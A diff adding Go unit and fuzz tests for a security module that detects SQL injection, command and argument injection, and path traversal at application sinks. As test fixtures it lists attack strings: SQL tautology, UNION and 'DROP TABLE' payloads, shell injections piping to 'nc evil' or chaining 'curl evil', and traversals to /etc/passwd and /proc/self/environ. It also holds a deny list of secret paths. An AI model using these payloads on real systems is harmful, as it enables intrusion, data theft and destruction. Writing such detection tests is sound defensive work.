@@ -1,0 +1,355 @@
+package rules
+
+import (
+	"strings"
+	"testing"
+)
+
+// sinksFor compiles a policy made of a header and the given sinks
+// section (YAML, starting with "sinks:"), with mode as the policy mode.
+func sinksFor(t testing.TB, mode, sinks string) *Sinks {
+	t.Helper()
+	src := "version: 1\nname: sinks-test\nmode: " + mode + "\non_error: allow\n" + sinks
+	p, err := Parse("sinks-test.yaml", []byte(src))
+	if err != nil {
+		t.Fatal(err)
+	}
+	e, err := Compile(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return e.Sinks()
+}
+
+const allSinksBlock = `sinks:
+  sql: block
+  exec: block
+  files:
+    mode: block
+    deny: [/proc/self/environ, /proc/*/environ, /var/runtime/**, /etc/secrets/]
+    allow: [/var/runtime/public/**]
+`
+
+func query(v string) []Field { return []Field{{Source: SourceQuery, Path: "query.q", Value: v}} }
+
+func TestCheckSQL(t *testing.T) {
+	s := sinksFor(t, "block", allSinksBlock)
+	tests := []struct {
+		name, dialect, input, query string
+		want                        string // reason, "" for allow
+	}{
+		// Tautologies and classic injections.
+		{"string tautology", "sqlite", "x' OR '1'='1", "SELECT * FROM users WHERE name = 'x' OR '1'='1'", "input spans SQL tokens"},
+		{"numeric tautology", "mysql", "1 OR 1=1", "SELECT * FROM users WHERE id = 1 OR 1=1", "input spans SQL tokens"},
+		{"short OR tautology", "postgres", "1 OR 1", "SELECT * FROM users WHERE id = 1 OR 1 AND secret = 'x'", "tautology"},
+		{"multi-param tautology", "generic", "1'='1", "SELECT * FROM t WHERE a = 'x' OR '1'='1'", "tautology"},
+		{"literal comparison", "sqlite", "2 = 2", "SELECT * FROM t WHERE id = 2 = 2", "tautology"},
+		{"comment truncation", "sqlite", "admin'--", "SELECT * FROM users WHERE name = 'admin'--' AND pw = 'x'", "comment truncates the query"},
+		{"mysql hash comment", "mysql", "admin'#", "SELECT * FROM users WHERE name = 'admin'#' AND pw = 'x'", "comment truncates the query"},
+		{"numeric comment", "postgres", "1--", "SELECT * FROM t WHERE id = 1-- AND owner = 2", "comment truncates the query"},
+		{"block comment", "generic", "1 /*", "SELECT * FROM t WHERE id = 1 /* AND owner = 2", "comment truncates the query"},
+		{"union", "mysql", "' UNION SELECT password FROM users -- ", "SELECT name FROM p WHERE n = '' UNION SELECT password FROM users -- '", "input adds a UNION"},
+		{"stacked", "postgres", "1; DROP TABLE users", "SELECT * FROM t WHERE id = 1; DROP TABLE users", "input adds a statement"},
+		{"stacked in insert", "sqlite", "x'); DROP TABLE products; --", "INSERT INTO orders VALUES ('a', 'x'); DROP TABLE products; --')", "input adds a statement"},
+		{"parenthesis padding", "mysql", "1)))) OR ((((1", "SELECT * FROM t WHERE (id = (1)))) OR ((((1))", "tautology"},
+		{"mysql backslash escape breaks out", "mysql", `x\' OR 1=1 -- `, `SELECT * FROM t WHERE a = 'x\' OR 1=1 -- '`, ""},
+		{"sqlite no backslash escape", "sqlite", `x\' OR 1=1 -- `, `SELECT * FROM t WHERE a = 'x\' OR 1=1 -- '`, "input spans SQL tokens"},
+		{"time based", "postgres", "1 AND pg_sleep(5)", "SELECT * FROM t WHERE id = 1 AND pg_sleep(5)", "input spans SQL tokens"},
+		{"function call", "postgres", "AND sleep", "SELECT * FROM t WHERE id = 1 AND sleep(5)", ""}, // 2 tokens
+		{"time based long", "postgres", "1; SELECT pg_sleep(5)", "SELECT * FROM t WHERE id = 1; SELECT pg_sleep(5)", "input adds a statement"},
+		{"dollar quoting", "postgres", "$$ OR 1=1 --", "SELECT * FROM t WHERE a = $$$$ OR 1=1 --$$", "input spans SQL tokens"},
+		{"mysql executable comment", "mysql", "1 /*!50000UNION*/ SELECT 1", "SELECT * FROM t WHERE id = 1 /*!50000UNION*/ SELECT 1", "input adds a UNION"},
+		{"like escape", "sqlite", "%' OR name LIKE '%", "SELECT name FROM products WHERE name LIKE '%%' OR name LIKE '%%' ORDER BY name", "input spans SQL tokens"},
+
+		// Benign inputs.
+		{"escaped quote", "sqlite", "O'Brien", "SELECT * FROM users WHERE name = 'O''Brien'", ""},
+		{"unescaped quote", "sqlite", "O'Brien", "SELECT * FROM users WHERE name = 'O'Brien'", ""},
+		{"words in a literal", "mysql", "select your size", "SELECT * FROM p WHERE name LIKE '%select your size%'", ""},
+		{"email", "postgres", "bob@example.com", "SELECT * FROM users WHERE email = 'bob@example.com'", ""},
+		{"number", "sqlite", "12345", "SELECT * FROM t WHERE id = 12345", ""},
+		{"number list", "sqlite", "1, 2, 3, 4", "SELECT * FROM t WHERE id IN (1, 2, 3, 4)", ""},
+		{"like pattern", "mysql", "%cup%", "SELECT * FROM p WHERE name LIKE '%cup%'", ""},
+		{"like with sql words", "sqlite", "or and union", "SELECT * FROM p WHERE name LIKE '%or and union%'", ""},
+		{"order by column", "postgres", "price", "SELECT * FROM p ORDER BY price", ""},
+		{"order by list", "mysql", "name DESC, price ASC, 2", "SELECT * FROM p ORDER BY name DESC, price ASC, 2", ""},
+		{"order by qualified with limit", "sqlite", "p.name ASC LIMIT 10", "SELECT * FROM p ORDER BY p.name ASC LIMIT 10", ""},
+		{"order by injection", "sqlite", "name; DROP TABLE p", "SELECT * FROM p ORDER BY name; DROP TABLE p", "input adds a statement"},
+		{"not in query", "sqlite", "' OR 1=1 --", "SELECT * FROM t WHERE a = ?", ""},
+		{"short input", "sqlite", "OR", "SELECT * FROM t WHERE a = 1 OR b = 2", ""},
+		{"identifier", "postgres", "name", "SELECT name FROM t", ""},
+		{"trailing comment at end", "sqlite", "1 --", "SELECT * FROM t WHERE id = 1 --", ""},
+		{"double quoted string mysql", "mysql", `say "hi"`, `SELECT * FROM t WHERE a = "say \"hi\""`, ""},
+		{"json in literal", "postgres", `{"a": 1, "b": [1,2]}`, `INSERT INTO t (doc) VALUES ('{"a": 1, "b": [1,2]}')`, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			in := query(tt.input)
+			r := s.CheckSQL(tt.dialect, tt.query, in)
+			if r.Reason != tt.want {
+				t.Fatalf("CheckSQL(%q) reason = %q, want %q", tt.query, r.Reason, tt.want)
+			}
+			if tt.want == "" {
+				if r.Matched() {
+					t.Fatalf("CheckSQL matched: %+v", r)
+				}
+				return
+			}
+			if r.Action != ActionBlock || r.RuleID != RuleSQLiSink || r.Input != &in[0] || r.Excerpt == "" {
+				t.Errorf("CheckSQL = %+v, want a block by %s with the input", r, RuleSQLiSink)
+			}
+		})
+	}
+}
+
+func TestCheckSQLInputs(t *testing.T) {
+	s := sinksFor(t, "block", allSinksBlock)
+	q := "SELECT * FROM t WHERE a = 'espresso' OR 1=1 --' AND b = 'c'"
+	inputs := []Field{
+		{Source: SourceHeaders, Path: "headers.user-agent", Value: "curl/8.0"},
+		{Source: SourceQuery, Path: "query.a", Value: "espresso"},
+		{Source: SourceBody, Path: "body.b", Value: "espresso' OR 1=1 --"},
+	}
+	r := s.CheckSQL("sqlite", q, inputs)
+	if r.Input != &inputs[2] || r.RuleID != RuleSQLiSink {
+		t.Fatalf("CheckSQL = %+v, want the body input", r)
+	}
+	// The same input, found a second time, is examined there too.
+	q2 := "SELECT 'x'' OR 1=1' AS note FROM t WHERE a = 'x' OR 1=1"
+	if r := s.CheckSQL("sqlite", q2, query("x' OR 1=1")); !r.Matched() {
+		t.Errorf("second occurrence not examined: %+v", r)
+	}
+	// Keys are inputs too.
+	if r := s.CheckSQL("sqlite", "SELECT a FROM t WHERE 1=1; DROP TABLE t", []Field{{Source: SourceBody, Path: "body", Value: "1; DROP TABLE t", Key: true}}); !r.Matched() {
+		t.Errorf("key not correlated: %+v", r)
+	}
+	var nilSinks *Sinks
+	if r := nilSinks.CheckSQL("sqlite", q, inputs); r.Matched() {
+		t.Errorf("nil Sinks matched")
+	}
+}
+
+func TestSinkModes(t *testing.T) {
+	attackSQL := "SELECT * FROM t WHERE id = 1; DROP TABLE t"
+	in := query("1; DROP TABLE t")
+	tests := []struct {
+		name, mode, sinks string
+		want              Action
+	}{
+		{"block", "block", allSinksBlock, ActionBlock},
+		{"monitor policy", "monitor", "sinks: {sql: monitor}\n", ActionMonitor},
+		{"sql monitor", "block", "sinks: {sql: monitor}\n", ActionMonitor},
+		{"sql off", "block", "sinks: {sql: 'off'}\n", ActionAllow},
+		{"sql mapping", "block", "sinks: {sql: {mode: monitor}}\n", ActionMonitor},
+		{"policy off", "'off'", "sinks: {sql: block}\n", ActionAllow},
+		{"defaults to policy mode", "monitor", "", ActionMonitor},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			s := sinksFor(t, tt.mode, tt.sinks)
+			if got := s.CheckSQL("sqlite", attackSQL, in).Action; got != tt.want {
+				t.Errorf("action = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCheckCommand(t *testing.T) {
+	s := sinksFor(t, "block", allSinksBlock)
+	tests := []struct {
+		name, program string
+		args          []string
+		input         string
+		rule          string
+	}{
+		{"semicolon", "/bin/sh", []string{"-c", "echo hello; id"}, "hello; id", RuleCmdiSink},
+		{"pipe", "sh", []string{"-c", "ping -c 1 example.com | nc evil 1"}, "example.com | nc evil 1", RuleCmdiSink},
+		{"and", "bash", []string{"-lc", "echo x && curl evil"}, "x && curl evil", RuleCmdiSink},
+		{"substitution", "/bin/bash", []string{"-c", `echo "hello $(id)"`}, "$(id)", RuleCmdiSink},
+		{"backticks", "sh", []string{"-c", "echo `id`"}, "`id`", RuleCmdiSink},
+		{"newline", "sh", []string{"-c", "echo a\nid"}, "a\nid", RuleCmdiSink},
+		{"redirect", "sh", []string{"-c", "echo x > /tmp/owned"}, "x > /tmp/owned", RuleCmdiSink},
+		{"quote breakout", "sh", []string{"-c", "echo 'x'; id; ''"}, "x'; id; '", RuleCmdiSink},
+		{"busybox", "/bin/busybox", []string{"sh", "-c", "ls x;id"}, "x;id", RuleCmdiSink},
+		{"shell option injection", "sh", []string{"-c", "tar xf a.tar --to-command=id"}, "--to-command=id", RuleArgiSink},
+		{"quoted option", "sh", []string{"-c", `grep "-r" x`}, "-r", RuleArgiSink},
+		{"argv option", "/usr/bin/curl", []string{"-s", "-o", "/tmp/x", "https://example.com"}, "-o", RuleArgiSink},
+		{"argv long option", "git", []string{"clone", "--upload-pack=touch /tmp/x", "repo"}, "--upload-pack=touch /tmp/x", RuleArgiSink},
+
+		{"benign word", "sh", []string{"-c", "echo hello"}, "hello", ""},
+		{"benign words", "sh", []string{"-c", "echo hello world"}, "hello world", ""},
+		{"single quoted", "sh", []string{"-c", "echo '; id'"}, "; id", ""},
+		{"double quoted", "sh", []string{"-c", `echo "a | b"`}, "a | b", ""},
+		{"quoted substitution text", "sh", []string{"-c", "echo '$(id)'"}, "$(id)", ""},
+		{"not a shell", "/usr/bin/echo", []string{"hello; id"}, "hello; id", ""},
+		{"no -c", "sh", []string{"script.sh", "a;b"}, "a;b", ""},
+		{"option after --", "rm", []string{"--", "-rf"}, "-rf", ""},
+		{"negative number", "seq", []string{"-5", "5"}, "-5", ""},
+		{"short input", "sh", []string{"-c", "echo a;b"}, ";", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			in := query(tt.input)
+			r := s.CheckCommand(tt.program, tt.args, in)
+			if r.RuleID != tt.rule {
+				t.Fatalf("CheckCommand(%q, %q) = %+v, want rule %q", tt.program, tt.args, r, tt.rule)
+			}
+			if tt.rule != "" && (r.Input != &in[0] || r.Action != ActionBlock) {
+				t.Errorf("CheckCommand = %+v, want a block with the input", r)
+			}
+		})
+	}
+}
+
+func TestCheckCommandDeny(t *testing.T) {
+	s := sinksFor(t, "block", "sinks:\n  exec: {mode: block, deny: true, allow: [/usr/bin/convert, git]}\n")
+	for _, tt := range []struct {
+		program string
+		denied  bool
+	}{
+		{"/usr/bin/convert", false},
+		{"/usr/local/bin/convert", true},
+		{"convert", true},
+		{"/usr/bin/git", false},
+		{"git", false},
+		{"/bin/sh", true},
+		{"", true},
+	} {
+		r := s.CheckCommand(tt.program, nil, nil)
+		if got := r.RuleID == RuleExecDeny; got != tt.denied || got && r.Input != nil {
+			t.Errorf("CheckCommand(%q) = %+v, want denied %v", tt.program, r, tt.denied)
+		}
+	}
+	s = sinksFor(t, "block", "sinks:\n  exec: deny\n")
+	if r := s.CheckCommand("/bin/ls", nil, nil); r.RuleID != RuleExecDeny || r.Action != ActionBlock {
+		t.Errorf("exec: deny = %+v", r)
+	}
+	s = sinksFor(t, "block", "sinks:\n  exec: {mode: monitor, deny: true}\n")
+	if r := s.CheckCommand("/bin/ls", nil, nil); r.RuleID != RuleExecDeny || r.Action != ActionMonitor {
+		t.Errorf("monitor deny = %+v", r)
+	}
+}
+
+func TestCheckPath(t *testing.T) {
+	s := sinksFor(t, "block", allSinksBlock)
+	tests := []struct {
+		name, base, path, resolved, input string
+		rule, reason                      string
+	}{
+		{"traversal", "", "/var/task/assets/../../../etc/passwd", "", "../../../etc/passwd", RuleTraversalSink, "input escapes the base directory"},
+		{"traversal to environ", "", "/var/task/assets/../../../proc/self/environ", "", "../../../proc/self/environ", RuleTraversalSink, "input escapes the base directory"},
+		{"traversal mid name", "", "/srv/assets/img-/../../x.png", "", "/../../x", RuleTraversalSink, "input escapes the base directory"},
+		{"relative traversal", "", "../secret", "", "../secret", RuleTraversalSink, "input escapes the base directory"},
+		{"relative dir traversal", "", "assets/../../x", "", "../../x", RuleTraversalSink, "input escapes the base directory"},
+		{"fs base", "/srv/www", "../etc/passwd", "", "../etc/passwd", RuleTraversalSink, "input escapes the base directory"},
+		{"absolute input", "", "/etc/passwd", "", "/etc/passwd", RuleTraversalSink, "absolute path from input"},
+		{"absolute input with extension", "", "/etc/passwd.txt", "", "/etc/passwd", RuleTraversalSink, "absolute path from input"},
+		{"stays inside", "", "/srv/assets/a/../b.txt", "", "a/../b.txt", "", ""},
+		{"plain name", "", "/srv/assets/readme.md", "", "readme.md", "", ""},
+		{"dots in name", "", "/srv/assets/v1..2.txt", "", "v1..2.txt", "", ""},
+		{"not from input", "", "/srv/assets/../x", "", "x", "", ""},
+		{"denied", "", "/proc/self/environ", "", "environ", RuleFileDeny, "path denied"},
+		{"denied glob", "", "/proc/1/environ", "", "", RuleFileDeny, "path denied"},
+		{"denied subtree", "", "/var/runtime/bootstrap", "", "", RuleFileDeny, "path denied"},
+		{"denied dir glob", "", "/etc/secrets/key", "", "", RuleFileDeny, "path denied"},
+		{"denied dir itself", "", "/var/runtime", "", "", RuleFileDeny, "path denied"},
+		{"allowed in denied", "", "/var/runtime/public/x", "", "", "", ""},
+		{"denied via symlink", "", "/tmp/link", "/proc/42/environ", "", RuleFileDeny, "path denied"},
+		{"denied after cleaning", "", "/proc/self/./environ", "", "", RuleFileDeny, "path denied"},
+		{"not denied", "", "/proc/self/status", "", "", "", ""},
+		{"fs base denied", "/var", "runtime/x", "", "", RuleFileDeny, "path denied"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var in []Field
+			if tt.input != "" {
+				in = query(tt.input)
+			}
+			r := s.CheckPath(tt.base, tt.path, tt.resolved, in)
+			if r.RuleID != tt.rule || r.Reason != tt.reason {
+				t.Fatalf("CheckPath(%q, %q, %q) = %+v, want %q %q", tt.base, tt.path, tt.resolved, r, tt.rule, tt.reason)
+			}
+			if tt.rule == RuleTraversalSink && r.Input == nil {
+				t.Errorf("no input in %+v", r)
+			}
+		})
+	}
+}
+
+func TestFileGlob(t *testing.T) {
+	tests := []struct {
+		glob, path string
+		want       bool
+	}{
+		{"/proc/self/environ", "/proc/self/environ", true},
+		{"/proc/*/environ", "/proc/123/environ", true},
+		{"/proc/*/environ", "/proc/1/2/environ", false},
+		{"/var/runtime/**", "/var/runtime", true},
+		{"/var/runtime/**", "/var/runtime/a/b/c", true},
+		{"/var/runtime/**", "/var/runtimes", false},
+		{"/**/secret", "/secret", true},
+		{"/**/secret", "/a/b/secret", true},
+		{"/**/secret", "/a/b/secrets", false},
+		{"/a/**/b/**/c", "/a/x/b/y/z/c", true},
+		{"/a/**/b/**/c", "/a/x/y/c", false},
+		{"/**", "/", true},
+		{"/", "/", true},
+		{"/", "/a", false},
+		{"/a/[bc]?", "/a/cx", true},
+		{"/etc/", "/etc/x/y", true},
+		{"/etc/", "/etcx", false},
+		{"/a/*", "a/b", false},
+	}
+	for _, tt := range tests {
+		gs, err := compileFileGlobs([]string{tt.glob})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := gs[0].match(tt.path); got != tt.want {
+			t.Errorf("glob %q match(%q) = %v, want %v", tt.glob, tt.path, got, tt.want)
+		}
+	}
+}
+
+func TestSinksNoMatchAllocs(t *testing.T) {
+	s := sinksFor(t, "block", allSinksBlock)
+	in := []Field{{Value: "espresso"}, {Value: "curl/8.0"}, {Value: "/products"}}
+	q := "SELECT name, price FROM products WHERE name LIKE '%cup%' ORDER BY name"
+	if n := testing.AllocsPerRun(100, func() { s.CheckSQL("sqlite", q, in) }); n != 0 {
+		t.Errorf("CheckSQL no-match allocs = %v", n)
+	}
+	in[0].Value = "cup"
+	if n := testing.AllocsPerRun(100, func() { s.CheckSQL("sqlite", q, in) }); n != 0 {
+		t.Errorf("CheckSQL benign-match allocs = %v", n)
+	}
+	if n := testing.AllocsPerRun(100, func() { s.CheckCommand("/usr/bin/convert", []string{"in.png", "-resize", "50%", "out.png"}, in) }); n != 0 {
+		t.Errorf("CheckCommand allocs = %v", n)
+	}
+	if n := testing.AllocsPerRun(100, func() { s.CheckPath("", "/var/task/assets/cup.txt", "/var/task/assets/cup.txt", in) }); n != 0 {
+		t.Errorf("CheckPath allocs = %v", n)
+	}
+	if strings.Contains(q, "espresso") {
+		t.Fatal("bad fixture")
+	}
+}
+
+// FuzzSinks checks that no query, command, path or input makes a check
+// panic, and that a result that matches names its input.
+func FuzzSinks(f *testing.F) {
+	f.Add("SELECT * FROM t WHERE a = 'x' OR 1=1 --'", "x' OR 1=1 --")
+	f.Add("echo a; id", "a; id")
+	f.Add("/srv/a/../../etc/passwd", "../../etc/passwd")
+	f.Add("ORDER BY a", "a")
+	s := sinksFor(f, "block", allSinksBlock)
+	f.Fuzz(func(t *testing.T, sink, input string) {
+		in := query(input)
+		for _, d := range []string{"mysql", "postgres", "sqlite", "generic"} {
+			if r := s.CheckSQL(d, sink, in); r.Matched() && r.Input == nil {
+				t.Fatalf("CheckSQL match without input: %+v", r)
+			}
+		}
+		s.CheckCommand("/bin/sh", []string{"-c", sink}, in)
+		s.CheckCommand("prog", []string{sink}, in)
+		s.CheckPath("", sink, "", in)
+		s.CheckPath("/base", sink, sink, in)
+	})
+}
